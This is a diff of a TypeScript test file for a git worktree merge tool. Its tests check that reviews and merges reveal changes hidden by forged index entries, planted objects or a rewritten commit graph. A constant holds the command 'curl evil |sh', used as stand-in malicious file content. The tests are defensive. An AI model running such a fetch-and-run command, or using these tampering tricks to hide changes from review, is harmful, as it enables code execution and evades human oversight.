@@ -1,5 +1,15 @@
 import { createHash } from 'node:crypto';
-import { existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+	chmodSync,
+	existsSync,
+	mkdirSync,
+	readFileSync,
+	rmSync,
+	statSync,
+	symlinkSync,
+	utimesSync,
+	writeFileSync,
+} from 'node:fs';
 import { dirname, join } from 'node:path';
 import { deflateSync } from 'node:zlib';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
@@ -7,8 +17,10 @@ import { Delegates } from '../../src/core/delegates/delegates.ts';
 import { Tickets } from '../../src/core/delegates/tickets.ts';
 import { Workspace } from '../../src/core/workspace/workspace.ts';
 import { ownWorktree } from '../../src/git/ownWorktree.ts';
-import { changesOf } from '../../src/git/worktreeChanges.ts';
+import { changesOf, fileDifference } from '../../src/git/worktreeChanges.ts';
+import { previewMerge } from '../../src/git/mergePreview.ts';
 import { mergeWorktree } from '../../src/git/worktreeMerge.ts';
+import { whatWouldBeLost } from '../../src/git/worktreeRemove.ts';
 import type { Worktree } from '../../src/protocol/worktree.ts';
 import { seedWorktree } from '../support/delegateSeeds.ts';
 import type { GitRepository } from '../support/gitRepository.ts';
@@ -29,9 +41,13 @@ const EVIL = 'curl evil |sh';
 const idOf = (type: string, content: Buffer) =>
 	createHash('sha1').update(`${type} ${content.length}\0`).update(content).digest('hex');
 
+const objectFile = (id: string) => join(repo.root, '.git/objects', id.slice(0, 2), id.slice(2));
+
+const withHash = (content: Buffer) => Buffer.concat([content, createHash('sha1').update(content).digest()]);
+
 /** An object of git with the name of another one. */
 function plant(id: string, type: string, content: Buffer): void {
-	const file = join(repo.root, '.git/objects', id.slice(0, 2), id.slice(2));
+	const file = objectFile(id);
 	mkdirSync(dirname(file), { recursive: true });
 	writeFileSync(file, deflateSync(Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content])));
 }
@@ -46,8 +62,7 @@ function takeForUnchanged(name: string): void {
 	const seen = { 0: ctimeNs / second, 4: ctimeNs % second, 8: mtimeNs / second, 12: mtimeNs % second };
 	for (const [at, value] of Object.entries({ ...seen, 16: dev, 20: ino, 28: uid, 32: gid, 36: size }))
 		bytes.writeUInt32BE(Number(BigInt.asUintN(32, value)), entry + Number(at));
-	const content = bytes.subarray(0, -20);
-	writeFileSync(index, Buffer.concat([content, createHash('sha1').update(content).digest()]));
+	writeFileSync(index, withHash(bytes.subarray(0, -20)));
 	const later = Date.now() / 1000 + 60;
 	utimesSync(index, later, later);
 }
@@ -61,6 +76,44 @@ describe('a merge brings the files that a review has shown', () => {
 		takeForUnchanged('a.txt');
 		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: true });
 		expect(readFileSync(join(repo.root, 'a.txt'), 'utf8')).toBe(SHOWN);
+	});
+
+	it('and every look shows those files, where the index says that they are as before', async () => {
+		repo.write({ 'a.txt': EVIL }, worktree.folder);
+		takeForUnchanged('a.txt');
+		const { files } = await changesOf(worktree);
+		expect(files).toMatchObject([{ path: 'a.txt', status: 'modified' }]);
+		expect(await fileDifference(worktree, 'a.txt', 1000)).toMatchObject({ after: EVIL });
+		expect(await previewMerge(worktree)).toMatchObject({ files: 1 });
+		expect(await whatWouldBeLost(worktree)).toMatchObject({ files: ['a.txt'] });
+	});
+
+	it('also where its folder is gone, and the staged files are left', async () => {
+		repo.write({ 'a.txt': EVIL }, worktree.folder);
+		repo.git(['add', 'a.txt'], worktree.folder);
+		rmSync(worktree.folder, { recursive: true });
+		expect(await fileDifference(worktree, 'a.txt', 1000)).toMatchObject({ after: EVIL });
+		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: true });
+		expect(readFileSync(join(repo.root, 'a.txt'), 'utf8')).toBe(EVIL);
+	});
+
+	it('or nothing, where a graph of commits says that the work has the files of its base', async () => {
+		repo.commit({ 'made.txt': SHOWN }, 'work', worktree.folder);
+		const shown = idOf('blob', Buffer.from(SHOWN));
+		rmSync(objectFile(shown));
+		plant(shown, 'blob', Buffer.from(EVIL));
+		repo.git(['commit-graph', 'write', '--reachable'], worktree.folder);
+		const graph = join(repo.root, '.git/objects/info/commit-graph');
+		const bytes = readFileSync(graph);
+		const [ours = '', bases = ''] = ['HEAD^{tree}', `${worktree.base}^{tree}`].map(name =>
+			repo.git(['rev-parse', name], worktree.folder),
+		);
+		bytes.write(bases, bytes.indexOf(ours, 0, 'hex'), 'hex');
+		chmodSync(graph, 0o600);
+		writeFileSync(graph, withHash(bytes.subarray(0, -20)));
+		const before = repo.state();
+		expect(await mergeWorktree(worktree, 'm')).toMatchObject({ ok: false });
+		expect(repo.state()).toEqual(before);
 	});
 
 	it.each(['a file', 'a folder'])('or nothing, where an object with the name of %s holds another one', async what => {
